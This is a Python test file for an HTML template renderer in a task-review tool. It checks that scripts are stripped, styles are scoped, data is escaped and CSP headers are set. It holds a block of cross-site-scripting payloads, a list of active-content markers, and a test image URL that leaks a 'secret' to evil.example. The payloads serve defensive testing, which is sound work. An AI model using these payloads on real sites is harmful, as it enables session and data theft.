"""Templates and inputs are untrusted: their scripts don't run, and they stay in their part."""

import re

import pytest

from model_monitoring.review import TemplateError, render

HOSTILE = """<script>alert(1)</script><img src=x onerror="alert(2)"><svg onload="alert(3)"></svg>
<iframe src="//evil"></iframe><base href="//evil"><meta http-equiv="refresh" content="0;url=//evil">
<form action="//evil"><input name="a" formaction="//evil"><a href="javascript:alert(4)">a</a>
<object data="//evil"></object><link rel="stylesheet" href="//evil"><style>p{color:red}</style>
<math><mi xlink:href="javascript:alert(5)"></mi></math>
<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>"""
ACTIVE = (
    "<script", "onerror=", "onload", "iframe", "<base", "<meta", "<form", "formaction",
    "javascript:", "<object", "<link", "<svg", "<math",
)  # fmt: skip


def test_a_template_has_no_active_content():
    html = render(HOSTILE, {}).html
    assert not [word for word in ACTIVE if word in html]


def test_a_templates_own_script_is_noted_and_aws_elements_are_not():
    assert "script of its own" in render("<SCRIPT>x()</SCRIPT>", {}).warnings[0]
    assert not render(
        '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>', {}
    ).warnings


def test_a_templates_style_stays_in_its_part():
    assert re.search(
        r"<style>@scope \(\.worker-template\) \{\s*p\{color:red\}\s*\}</style>",
        render(HOSTILE, {}).html,
    )


def test_a_style_with_too_many_closing_braces_stays_in_its_part():
    html = render(
        "<style>p{color:red} } b{color:red} @media print { i { color: red }</style>", {}
    ).html
    style = html.partition("<style>")[2].partition("</style>")[0]
    assert style.startswith("@scope (.worker-template) {") and style.endswith("\n}")
    assert [style[:end].count("{") - style[:end].count("}") for end in range(30, len(style))][
        :-1
    ].count(0) == 0
    assert style.count("{") == style.count("}") == 5
    html = render(r"""<style>p::before{content:"\3c/style>\3cscript>"}</style>after""", {}).html
    assert html.count("</") == 2 and "<script" not in html


def test_a_script_in_data_is_shown_as_text():
    html = render(
        "<p title='{{ task.input.a }}'>{{ task.input.a }}</p>", {"a": "'><script>alert(1)</script>"}
    ).html
    assert "<script" not in html and "&lt;script&gt;" in html


def test_pages_allow_only_their_own_scripts(anna, store):
    store.add(
        "1",
        '<img src="{{ task.input.a | grant_read_access }}"><input name="b">',
        {"a": "https://host.example/i.png"},
    )
    answer = anna.get("/tasks/1")
    policy = dict(
        part.split(" ", 1) for part in answer.headers["Content-Security-Policy"].split("; ")
    )
    nonce = re.fullmatch(r"'nonce-([\w-]{16,})'", policy["script-src"])[1]
    assert policy["default-src"] == policy["base-uri"] == policy["frame-ancestors"] == "'none'"
    assert policy["form-action"] == policy["connect-src"] == "'self'"
    assert policy["img-src"] == "'self' data: https://host.example"
    assert {script.get("nonce") for script in answer.page.iter("script")} == {nonce}
    assert nonce not in anna.get("/tasks/1").text
    assert (
        answer.headers["Referrer-Policy"] == "no-referrer"
        and answer.headers["Cache-Control"] == "no-store"
    )


def test_pictures_of_other_hosts_are_not_loaded(anna, store):
    store.add(
        "1", '<img src="https://evil.example/?{{ task.input.a }}"><input name="b">', {"a": "secret"}
    )
    assert "evil" not in anna.get("/tasks/1").headers["Content-Security-Policy"]


def test_a_page_too_large_for_a_browser_is_refused():
    with pytest.raises(TemplateError, match="characters from its task"):
        render("{{ task.input.a }}", {"a": "x" * 5_000_000})


def test_five_megabytes_of_input_are_fine_if_little_of_it_is_shown():
    assert "yes" in render("{{ task.input.b }}", {"a": "x" * 5_000_000, "b": "yes"}).html


def test_deeply_nested_pages_lose_nothing_or_are_refused():
    deep = "<div>" * 1000 + "<input name=a>" + "</div>" * 1000 + "<input name=b>"
    assert [field.key for field in render(deep, {}).fields] == ["a", "b"]
    with pytest.raises(TemplateError, match="inside one another"):
        render(deep.replace("<div>", "<div><div><div>"), {})
